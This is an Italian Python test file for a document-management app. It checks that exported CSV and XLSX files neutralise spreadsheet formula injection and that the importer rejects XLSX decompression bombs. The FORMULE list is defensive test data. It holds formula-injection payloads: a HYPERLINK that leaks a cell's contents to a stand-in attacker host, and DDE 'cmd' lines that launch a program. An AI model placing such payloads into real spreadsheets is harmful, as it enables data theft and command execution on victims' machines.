"""Categoria «fogli di calcolo»: nessuna formula dal modulo pubblico al foglio dell'ufficio; bombe XLSX rifiutate."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import textwrap

import pytest
from openpyxl import load_workbook

from aiuti_ostili import ROOT, cli_interno, senza_traceback, xlsx_bomba, xlsx_colonne_dichiarate
from aiuti_ostili import ORA, dati_validi, ente

FORMULE = [
    '=1+HYPERLINK("http://attaccante.example/?"&A2,"Apri")',
    "-1+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


def test_cella_sicura_neutralizza_ogni_inizio_pericoloso():
    from cer_docs.sicurezza.fogli import cella_sicura

    for f in FORMULE:
        assert cella_sicura(f).startswith("'"), f
    assert cella_sicura("Mario Rossi") == "Mario Rossi"
    assert cella_sicura(-12) == -12 and cella_sicura(None) is None


def test_formule_dal_modulo_pubblico_non_arrivano_attive_nel_foglio(campagna_aperta, tmp_path):
    from cer_docs.services import pubblico

    for i, formula in enumerate(FORMULE):
        pubblico.invia_candidatura("mi-ostile", ente(i + 1, denominazione=formula, telefono=formula[:20]), [],
                                   f"sessione-{i}", ORA)
    # CSV
    e = cli_interno("campagna", "esporta", "mi-ostile", "--out", str(tmp_path / "c.csv"))
    senza_traceback(e)
    assert e.codice == 0, e.testo
    righe = list(csv.reader(io.StringIO((tmp_path / "c.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    intest = righe[0]
    for r in righe[1:]:
        for cella in r:
            assert cella[:1] not in ("=", "+", "-", "@", "\t", "\r"), (intest, r)
    denominazioni = {r[intest.index("Denominazione")] for r in righe[1:]}
    # il testo resta intero (il modello toglie solo gli spazi ai bordi), reso inerte dall'apostrofo
    assert {"'" + f.strip() for f in FORMULE} == denominazioni
    # XLSX: nessuna cella è una formula, e il testo è quello inviato
    e = cli_interno("campagna", "esporta", "mi-ostile", "--out", str(tmp_path / "c.xlsx"))
    assert e.codice == 0, e.testo
    ws = load_workbook(tmp_path / "c.xlsx").active
    for riga in ws.iter_rows():
        for cella in riga:
            assert cella.data_type != "f", (cella.coordinate, cella.value)
            if isinstance(cella.value, str):
                assert cella.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cella.value


def test_tutti_gli_scrittori_di_fogli_passano_da_sicurezza_fogli():
    """Nessun CSV o XLSX scritto fuori da ``sicurezza/fogli.py`` (csv.writer, openpyxl, to_csv)."""
    sospetti = []
    # CSV intermedi in memoria, mai dati a una persona: il programma li riscrive nel proprio formato
    # per rileggerli subito con il lettore già controllato (tabella degli incassi della pagina, file
    # giornalieri del distributore → CSV delle misure)
    interni = {("riparto", "misure_distributore.py"), ("services", "riparto.py")}
    for f in (ROOT / "cer_docs").rglob("*.py"):
        if f.parent.name == "sicurezza" and f.name == "fogli.py":
            continue
        if (f.parent.name, f.name) in interni:
            continue
        testo = f.read_text(encoding="utf-8")
        for segno in ("csv.writer", "csv.DictWriter", "Workbook(", ".to_csv(", "xlsxwriter"):
            if segno in testo:
                sospetti.append(f"{f.relative_to(ROOT)}: {segno}")
    for f in (ROOT / "ui").rglob("*.py"):
        testo = f.read_text(encoding="utf-8")
        for segno in ("csv.writer", "Workbook(", ".to_csv("):
            if segno in testo:
                sospetti.append(f"{f.relative_to(ROOT)}: {segno}")
    assert not sospetti, sospetti


def _leggi_membri_limitato(path, tempo=60):
    """L'importazione dei soci (come nell'interfaccia) in un processo con 1 GB di memoria e un timeout."""
    codice = textwrap.dedent(f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (1024 * 1024 * 1024,) * 2)
        from cer_docs.services.importazione import ErroreImportazione, leggi_membri
        try:
            esito = leggi_membri(open({str(path)!r}, "rb").read(), {path.name!r})
        except ErroreImportazione as e:
            print("RIFIUTATO:", e)
            sys.exit(3)
        print("LETTE:", esito.righe_lette)
    """)
    return subprocess.run([sys.executable, "-c", codice], capture_output=True, text=True, cwd=ROOT, timeout=tempo,
                          env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})


def test_xlsx_bomba_rifiutata_presto_e_in_poca_memoria(tmp_path):
    bomba = xlsx_bomba(tmp_path / "soci.xlsx")
    assert bomba.stat().st_size < 3 * 1024 * 1024
    r = _leggi_membri_limitato(bomba)
    assert "Traceback" not in r.stderr, r.stderr[-2000:]
    assert r.returncode == 3, r.stdout + r.stderr
    assert "soci.xlsx" in r.stdout and ("compressa in modo anomalo" in r.stdout or "oltre il limite" in r.stdout)


def test_xlsx_che_dichiara_16384_colonne_si_legge_lo_stesso(tmp_path):
    f = xlsx_colonne_dichiarate(tmp_path / "larghe.xlsx")
    r = _leggi_membri_limitato(f)
    assert "Traceback" not in r.stderr, r.stderr[-2000:]
    assert r.returncode == 0 and "LETTE: 200" in r.stdout, r.stdout + r.stderr


@pytest.mark.parametrize("contenuto, parola", [
    (b"PK\x03\x04" + b"\x00" * 100, "non è un foglio Excel"),
    (b"nome;cognome\r\n" + b"=1+1;-2+3\r\n", None),
])
def test_xlsx_e_csv_rotti_o_con_formule(contenuto, parola):
    from cer_docs.services.importazione import ErroreImportazione, leggi_membri

    if parola:
        with pytest.raises(ErroreImportazione, match=parola):
            leggi_membri(contenuto, "soci.xlsx")
    else:
        esito = leggi_membri(contenuto, "soci.csv")
        assert esito.righe_lette == 1  # il testo si legge; è la scrittura che lo neutralizza
